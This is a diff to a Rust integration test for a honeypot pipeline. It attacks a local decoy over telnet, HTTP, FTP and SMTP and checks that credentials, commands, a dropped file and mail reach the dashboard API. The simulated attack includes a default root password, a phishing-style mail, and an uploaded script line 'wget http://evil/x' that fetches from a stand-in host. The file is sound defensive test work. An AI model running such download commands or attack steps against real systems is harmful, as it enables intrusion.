@@ -1,6 +1,7 @@
 //! A decky's output through the whole pipeline: a real `svc decky` process is attacked over
-//! telnet and HTTP, its stdout is ingested by `svc ingest-replay`, and the profiler folds the rows;
-//! the store then holds the credentials tried, and the attacker's profile holds the commands run.
+//! telnet and HTTP (and FTP and SMTP), its stdout is ingested by `svc ingest-replay`, and the
+//! profiler folds the rows; the store then holds the credentials tried, and the attacker's profile
+//! holds the commands run; the dashboard routes read them.
 
 mod common;
 #[path = "../../tests/common/mod.rs"]
@@ -13,6 +14,7 @@ use std::sync::Arc;
 use std::time::{Duration, Instant};
 
 use common::{Proc, eventually, free_port, svc};
+use sha2::Digest;
 use store::TestDb;
 use svc::bus::Bus;
 use svc::worker::WorkerContext;
@@ -105,7 +107,7 @@ async fn what_a_decky_sees_becomes_credentials_and_commands() {
     assert!(replay.output().contains("skipped 0 malformed"), "{}", replay.output());
     let db = backend.open().await;
 
-    let credentials = db.credentials(10).await.unwrap();
+    let credentials = db.credentials(&Default::default(), 10, 0).await.unwrap().rows;
     let tried: Vec<(Option<&str>, &str, &str, Option<&str>)> = credentials
         .iter()
         .map(|c| (c.principal.as_deref(), c.secret_printable.as_str(), c.service.as_str(), c.outcome.as_deref()))
@@ -136,4 +138,266 @@ async fn what_a_decky_sees_becomes_credentials_and_commands() {
     assert_eq!(profile.deckies, ["web-01"]);
     assert!(profile.services.contains(&"telnet".to_string()) && profile.services.contains(&"http".to_string()));
     assert_eq!(profile.credential_count, 3);
+}
+
+/// Sends `line` and reads the reply up to its last line (the one whose code is followed by a space).
+fn exchange(stream: &mut TcpStream, line: &str, code: &str) -> String {
+    stream.write_all(format!("{line}\r\n").as_bytes()).unwrap();
+    read_until(stream, "\r\n").lines().last().map(str::to_string).filter(|l| l.starts_with(code)).unwrap_or_else(|| {
+        panic!("no {code} after {line}");
+    })
+}
+
+/// A passive FTP upload of `bytes` as `name`, anonymously.
+fn ftp_upload(port: u16, name: &str, bytes: &[u8]) {
+    let mut ftp = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    ftp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    read_until(&mut ftp, "\r\n");
+    exchange(&mut ftp, "USER anonymous", "331");
+    exchange(&mut ftp, "PASS guest@", "230");
+    let pasv = exchange(&mut ftp, "PASV", "227");
+    let numbers: Vec<u16> =
+        pasv[pasv.find('(').unwrap() + 1..pasv.find(')').unwrap()].split(',').map(|n| n.parse().unwrap()).collect();
+    let mut data = TcpStream::connect(("127.0.0.1", numbers[4] * 256 + numbers[5])).unwrap();
+    exchange(&mut ftp, &format!("STOR {name}"), "150");
+    data.write_all(bytes).unwrap();
+    drop(data);
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut replies = String::new();
+    while !replies.contains("226 ") {
+        assert!(Instant::now() < deadline, "no 226 after the upload: {replies}");
+        replies.push_str(&read_until(&mut ftp, "\r\n"));
+    }
+    exchange(&mut ftp, "QUIT", "221");
+}
+
+/// A message from `boss@evil.net` to two victims, subject `invoice`.
+fn smtp_send(port: u16) {
+    let mut smtp = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    smtp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    read_until(&mut smtp, "\r\n");
+    smtp.write_all(b"EHLO mailer\r\n").unwrap();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut seen = String::new();
+    while !seen.lines().any(|l| l.starts_with("250 ")) {
+        assert!(Instant::now() < deadline, "no EHLO reply: {seen}");
+        seen.push_str(&read_until(&mut smtp, "\r\n"));
+    }
+    exchange(&mut smtp, "MAIL FROM:<boss@evil.net>", "250");
+    exchange(&mut smtp, "RCPT TO:<cfo@acme.com>", "250");
+    exchange(&mut smtp, "RCPT TO:<it@Bank.org>", "250");
+    exchange(&mut smtp, "DATA", "354");
+    exchange(&mut smtp, "Subject: invoice\r\n\r\nplease pay\r\n.", "250");
+    exchange(&mut smtp, "QUIT", "221");
+}
+
+/// Reads the event stream into `seen` until it holds `marker`.
+async fn read_stream_until(stream: &mut reqwest::Response, seen: &mut String, marker: &str) {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
+    while !seen.contains(marker) {
+        let chunk = tokio::time::timeout_at(deadline, stream.chunk()).await;
+        let chunk = chunk.unwrap_or_else(|_| panic!("no `{marker}` in {seen}")).unwrap().expect("stream open");
+        seen.push_str(&String::from_utf8_lossy(&chunk));
+    }
+}
+
+/// Runs the profiler until it has folded every stored row.
+async fn profile_all(config: &svc::config::Config, db: &svc::db::Db, bus: Bus) {
+    let cancel = CancellationToken::new();
+    let ctx = WorkerContext::new(Arc::new(config.clone()), db.clone(), bus, cancel.clone());
+    let profiler = tokio::spawn((svc_workers::profiler::body().run)(ctx));
+    let last = db.last_log_id().await.unwrap();
+    eventually("the profiler catches up", || async { db.profiler_cursor().await.unwrap() >= last }).await;
+    cancel.cancel();
+    profiler.await.unwrap().unwrap();
+}
+
+/// What a decky records reaches every dashboard route DECNET's attacker and credential pages call,
+/// through the real pipeline: a decky attacked over telnet, HTTP, FTP and SMTP, its output ingested
+/// by `svc ingest-replay`, folded by the profiler (publishing on a real bus), read through the API.
+#[tokio::test]
+async fn what_a_decky_sees_reaches_the_dashboard_routes() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("decky.log");
+    let ini = dir.path().join("fleet.ini");
+    std::fs::write(&ini, "[web-01.telnet]\nusers = root:toor\n").unwrap();
+    let (telnet, http, ftp, smtp) = (free_port(), free_port(), free_port(), free_port());
+    let mut decky = Command::new(env!("CARGO_BIN_EXE_svc"))
+        .args(["decky", "--name", "web-01", "--bind", "127.0.0.1", "--ini", ini.to_str().unwrap()])
+        .args(["--services", &format!("telnet:{telnet},http:{http},ftp:{ftp},smtp:{smtp}")])
+        .env_clear()
+        .stdout(Stdio::from(std::fs::File::create(&log).unwrap()))
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_for(&log, " startup ", 4);
+
+    // The same password over telnet and the web form: credential reuse on two services.
+    let mut session = TcpStream::connect(("127.0.0.1", telnet)).unwrap();
+    session.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    for (user, password) in [("root", "123456789"), ("root", "toor")] {
+        read_until(&mut session, "login: ");
+        session.write_all(format!("{user}\r\n").as_bytes()).unwrap();
+        read_until(&mut session, "Password: ");
+        session.write_all(format!("{password}\r\n").as_bytes()).unwrap();
+    }
+    read_until(&mut session, "# ");
+    session.write_all(b"uname -a\r\n").unwrap();
+    read_until(&mut session, "# ");
+    session.write_all(b"exit\r\n").unwrap();
+    drop(session);
+    let mut web = TcpStream::connect(("127.0.0.1", http)).unwrap();
+    let body = "username=root&password=toor";
+    let request = format!(
+        "POST /login HTTP/1.1\r\nHost: web-01\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    );
+    web.write_all(request.as_bytes()).unwrap();
+    web.read_to_string(&mut String::new()).unwrap();
+    let dropped = b"#!/bin/sh\nwget http://evil/x\n";
+    ftp_upload(ftp, "drop.sh", dropped);
+    smtp_send(smtp);
+    wait_for(&log, " disconnect ", 4);
+    let stop = rustix::process::Pid::from_raw(decky.id() as i32).unwrap();
+    rustix::process::kill_process(stop, rustix::process::Signal::TERM).unwrap();
+    assert!(decky.wait().unwrap().success());
+
+    // The SMTP session's last lines arrive while the attacker's event stream is open.
+    let lines: Vec<String> = written(&log).lines().map(|l| format!("{l}\n")).collect();
+    let held = 1 + lines.iter().rposition(|l| l.contains(" smtp - message_accepted ")).expect("a stored message");
+    assert!(held < lines.len(), "the session's disconnect follows");
+    let nats = common::Nats::start();
+    for backend in TestDb::all() {
+        let replayed = dir.path().join(format!("replay-{}.log", backend.name));
+        std::fs::write(&replayed, lines[..held].concat()).unwrap();
+        let replay = || {
+            let mut replay = svc(dir.path(), &["ingest-replay", replayed.to_str().unwrap()]);
+            replay.envs(backend.vars());
+            let mut replay = Proc::spawn(replay);
+            assert!(replay.wait().success(), "{}", replay.output());
+        };
+        replay();
+        let config = backend.api_config(&[("SVC_PROFILER_POLL_MS", "20"), ("SVC_NATS_URL", &nats.url())]);
+        let db = backend.open().await;
+        profile_all(&config, &db, Bus::absent()).await;
+        let api = store::TestApi::start(config.clone()).await;
+        let viewer = store::user_token(&api.state, "watcher", svc::db::Role::Viewer).await;
+        let admin = store::user_token(&api.state, "boss", svc::db::Role::Admin).await;
+
+        // The credential bounty carries DECNET's names beside ours.
+        let bounties = api.ok("/bounty", &viewer, &[("bounty_type", "credential")]).await;
+        let payloads: Vec<&serde_json::Value> =
+            bounties["data"].as_array().unwrap().iter().map(|b| &b["payload"]).collect();
+        assert!(
+            payloads.iter().any(|p| p["username"] == "root" && p["password"] == "toor" && p["principal"] == "root"),
+            "{payloads:?}"
+        );
+
+        // The attacker row carries its commands (the last is the newest) and the detail its timing.
+        let rows = api.ok("/attackers", &viewer, &[]).await;
+        let row = rows["data"].as_array().unwrap().iter().find(|r| r["ip"] == "127.0.0.1").expect("the attacker");
+        let uuid = row["uuid"].as_str().unwrap().to_string();
+        let commands: Vec<&str> =
+            row["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
+        // The shell's and the FTP session's, oldest first.
+        let ran = ["uname -a", "exit", "PASV", "STOR drop.sh", "QUIT"];
+        assert_eq!((commands.as_slice(), &row["command_count"]), (&ran[..], &serde_json::json!(5)), "{}", backend.name);
+        let detail = api.ok(&format!("/attackers/{uuid}"), &viewer, &[]).await;
+        let timing = &detail["behavior"]["timing_stats"];
+        for field in ["duration_s", "mean_iat_s", "median_iat_s", "min_iat_s", "max_iat_s"] {
+            assert!(timing[field].is_number(), "{field} in {timing}");
+        }
+        assert!(timing["min_iat_s"].as_f64() <= timing["median_iat_s"].as_f64());
+        assert!(timing["median_iat_s"].as_f64() <= timing["max_iat_s"].as_f64());
+
+        // Credentials, and the one secret tried on two services.
+        let credentials = api.ok("/credentials", &viewer, &[("service", "telnet")]).await;
+        assert_eq!(credentials["total"], 2, "{credentials}");
+        let first = &credentials["data"][0];
+        assert_eq!(
+            (&first["decky_name"], &first["attacker_uuid"]),
+            (&serde_json::json!("web-01"), &serde_json::json!(uuid))
+        );
+        let searched = api.ok("/credentials", &viewer, &[("search", "toor")]).await;
+        assert_eq!(searched["total"], 2, "telnet and http: {searched}");
+        let reuse = api.ok("/credential-reuse", &viewer, &[]).await;
+        assert_eq!(reuse["total"], 1, "{reuse}");
+        let finding = &reuse["data"][0];
+        assert_eq!(
+            (&finding["principal"], &finding["secret_printable"], &finding["target_count"], &finding["services"]),
+            (
+                &serde_json::json!("root"),
+                &serde_json::json!("toor"),
+                &serde_json::json!(2),
+                &serde_json::json!(["http", "telnet"])
+            )
+        );
+        assert_eq!(
+            (&finding["attacker_ips"], &finding["attacker_uuids"]),
+            (&serde_json::json!(["127.0.0.1"]), &serde_json::json!([uuid]))
+        );
+        assert_eq!(api.ok("/credential-reuse", &viewer, &[("min_target_count", "3")]).await["total"], 0);
+        assert_eq!(api.get("/credential-reuse", Some(&viewer), &[("min_target_count", "1")]).await.status, 422);
+
+        // The dropped file, the mail (admins only) and its victims' domains.
+        let artifacts = api.ok(&format!("/attackers/{uuid}/artifacts"), &viewer, &[]).await;
+        assert_eq!(
+            (&artifacts["total"], &artifacts["data"][0]["event_type"]),
+            (&serde_json::json!(1), &serde_json::json!("file_captured"))
+        );
+        let fields: serde_json::Value = serde_json::from_str(artifacts["data"][0]["fields"].as_str().unwrap()).unwrap();
+        let sha256: String = sha2::Sha256::digest(dropped).iter().map(|b| format!("{b:02x}")).collect();
+        assert_eq!(fields["sha256"], sha256);
+        assert_eq!(api.get(&format!("/attackers/{uuid}/mail"), Some(&viewer), &[]).await.status, 403);
+        let mail = api.ok(&format!("/attackers/{uuid}/mail"), &admin, &[]).await;
+        assert_eq!(mail["total"], 1, "{mail}");
+        let mail_fields: serde_json::Value = serde_json::from_str(mail["data"][0]["fields"].as_str().unwrap()).unwrap();
+        assert_eq!(mail_fields["subject"], "invoice");
+        let targets = api.ok(&format!("/attackers/{uuid}/smtp-targets"), &viewer, &[]).await;
+        let mut domains: Vec<(&str, u64)> = targets["data"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|t| (t["domain"].as_str().unwrap(), t["count"].as_u64().unwrap()))
+            .collect();
+        domains.sort();
+        assert_eq!(domains, [("acme.com", 1), ("bank.org", 1)]);
+        let missing = uuid::Uuid::new_v4();
+        for route in ["artifacts", "smtp-targets", "events"] {
+            assert_eq!(
+                api.get(&format!("/attackers/{missing}/{route}"), Some(&viewer), &[]).await.status,
+                404,
+                "{route}"
+            );
+        }
+
+        // The attacker's live events: the snapshot, then the profiler's score as new rows arrive.
+        let events = format!("/attackers/{uuid}/events");
+        assert_eq!(api.get(&events, None, &[]).await.status, 401);
+        let response = api.client.get(api.url(&events)).bearer_auth(&viewer).send().await.unwrap();
+        assert_eq!(response.status(), 200);
+        let mut stream = response;
+        let mut seen = String::new();
+        read_stream_until(&mut stream, &mut seen, "event: snapshot").await;
+        read_stream_until(&mut stream, &mut seen, "\n\n").await;
+        assert!(seen.contains(&format!(r#""attacker_uuid":"{uuid}""#)), "{seen}");
+        std::fs::write(&replayed, lines.concat()).unwrap();
+        replay();
+        profile_all(&config, &db, Bus::connect(Some(&nats.url()), "profiler").await).await;
+        read_stream_until(&mut stream, &mut seen, "event: attacker.scored").await;
+        read_stream_until(&mut stream, &mut seen, r#""event_count""#).await;
+        let ticket = api.client.post(api.url("/auth/sse-ticket")).bearer_auth(&viewer).send().await.unwrap();
+        let ticket: serde_json::Value = ticket.json().await.unwrap();
+        let by_ticket = api
+            .client
+            .get(api.url(&events))
+            .query(&[("ticket", ticket["ticket"].as_str().unwrap())])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(by_ticket.status(), 200);
+        drop((stream, by_ticket));
+        api.stop().await;
+    }
 }
